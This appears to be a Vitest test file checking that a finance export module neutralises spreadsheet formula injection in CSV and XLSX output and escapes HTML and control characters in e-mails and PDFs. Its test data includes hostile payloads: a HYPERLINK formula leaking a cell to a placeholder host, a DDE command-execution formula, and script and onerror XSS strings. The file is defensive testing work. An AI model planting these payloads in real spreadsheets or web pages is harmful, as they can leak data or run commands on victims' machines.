import { PassThrough } from "node:stream";
import { buffer } from "node:stream/consumers";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import {
  escapeHtml,
  financeEmail,
  pdfText,
  safeCell,
  safeCellText,
  writeBatchCsv,
  writeBatchXlsx,
} from "../../functions/core/exports/index.js";
import { krakowBatch } from "../fixtures/exports/batch.js";

const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")',
  "=cmd|' /C calc'!A0",
  "+48 600 000 000",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
];

const FORMULA_LIKE = /^[\s\u00a0]*[=+\-@\t\r＝]/u;

/** A batch whose every text field (line, report and header) carries the payload. */
function poisonedBatch(payload: string) {
  const batch = krakowBatch({ assistants: 2, beneficiaries: 2 });
  batch.header.programmeName = payload;
  batch.lines = batch.lines.map((line, i) => ({
    ...line,
    assistantName: payload,
    contractNumber: payload,
    bankAccount: payload,
    reportIds: [payload, `${payload}-${i}`],
    rateLines: line.rateLines.map((rate, j) => ({ ...rate, reportId: j === 0 ? payload : `${payload}-${i}`, beneficiaryCode: payload })),
  }));
  batch.cards = batch.cards.map((card) => ({
    ...card,
    reportId: payload,
    assistantName: payload,
    beneficiaryCode: payload,
    approvedBy: payload,
    contentHash: payload,
  }));
  return batch;
}

const checked = { csvFields: 0, xlsxCells: 0, formulas: 0, payloads: 0 };

afterAll(() => {
  console.log(
    `exports: ${checked.payloads} formula payloads, ${checked.csvFields} CSV fields and ${checked.xlsxCells} XLSX cells checked, ${checked.formulas} user formulas`,
  );
});

describe("formula injection", () => {
  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))("neutralises %s in every CSV text field", async (_, payload) => {
    const batch = poisonedBatch(payload);
    const out = new PassThrough();
    const bytes = buffer(out);

    await writeBatchCsv(batch.header, batch.lines, out);

    const rows: string[][] = parse(await bytes, { delimiter: ";", bom: true, relax_column_count: true });
    for (const row of rows.slice(1, -1)) {
      for (const index of ["Asystent", "Nr umowy", "Nr rachunku bankowego", "Nr sprawozdania", "Kod uczestnika"].map((h) => rows[0].indexOf(h))) expect(row[index].startsWith("'")).toBe(true);
    }
    for (const field of rows.flat()) {
      checked.csvFields++;
      if (FORMULA_LIKE.test(field)) checked.formulas++;
      expect(field).not.toMatch(FORMULA_LIKE);
    }
    checked.payloads++;
  });

  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))("neutralises %s in every XLSX text cell", async (_, payload) => {
    const batch = poisonedBatch(payload);
    const out = new PassThrough();
    const bytes = buffer(out);

    await writeBatchXlsx(batch.header, batch.lines, batch.cards, out);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await bytes) as unknown as ArrayBuffer);
    let fromPayload = 0;
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          checked.xlsxCells++;
          if (cell.formula) {
            // only our own totals are formulas
            expect(cell.formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
            expect(row.getCell(1).value).toBe("RAZEM");
            return;
          }
          if (typeof cell.value !== "string") return;
          if (FORMULA_LIKE.test(cell.value)) checked.formulas++;
          expect(cell.value).not.toMatch(FORMULA_LIKE);
          if (cell.value.startsWith("'")) fromPayload++;
        });
      });
    }
    // summary: 2 lines × 2 reports (one row per report × rate) × 5 text cells (the report number is its id when
    // the line has none; the internal id itself is only in the reports sheet); reports: 4 cards × 6 text cells
    expect(fromPayload).toBe(4 * 5 + 4 * 6);
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@A1", "'@A1"],
    ["\t=1", "'\t=1"],
    ["\r=1", "' =1"],
    ["Anna\n=10+20", "Anna =10+20"],
    ["\r\n+1", "' +1"],
    [" =1", "' =1"],
    ["Anna Łęcka", "Anna Łęcka"],
    ["Jan-Kowalski", "Jan-Kowalski"],
    ["", ""],
  ])("safeCellText(%j) is %j", (input, expected) => {
    expect(safeCellText(input)).toBe(expected);
  });

  it("leaves numbers and dates as they are", () => {
    const date = new Date("2026-11-01T00:00:00Z");
    expect(safeCell(-12.5)).toBe(-12.5);
    expect(safeCell(date)).toBe(date);
  });
});

describe("HTML and control characters", () => {
  it.each([
    ["<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"],
    ['Anna "Ania" O\'Neil & syn', "Anna &quot;Ania&quot; O&#39;Neil &amp; syn"],
    ["<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"],
    ["Zażółć gęślą jaźń", "Zażółć gęślą jaźń"],
  ])("escapeHtml(%j) is %j", (input, expected) => {
    expect(escapeHtml(input)).toBe(expected);
  });

  it("puts programme names into the finance e-mail HTML only escaped", () => {
    const { header } = krakowBatch();

    const email = financeEmail({ ...header, programmeName: "<img src=x onerror=alert(1)>" }, [
      { name: "<b>x</b>.csv", bytes: 10, sha256: "ab".repeat(32) },
    ]);

    expect(email.html).not.toContain("<img");
    expect(email.html).not.toContain("<b>x</b>");
    expect(email.html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(email.text).toContain("<img src=x onerror=alert(1)>");
  });

  it("strips control characters and bidi overrides from PDF text", () => {
    expect(pdfText("Anna\u0000\u0007 Łę\u202ecka\r\n\tKowalska")).toBe("Anna Łęcka Kowalska");
  });
});
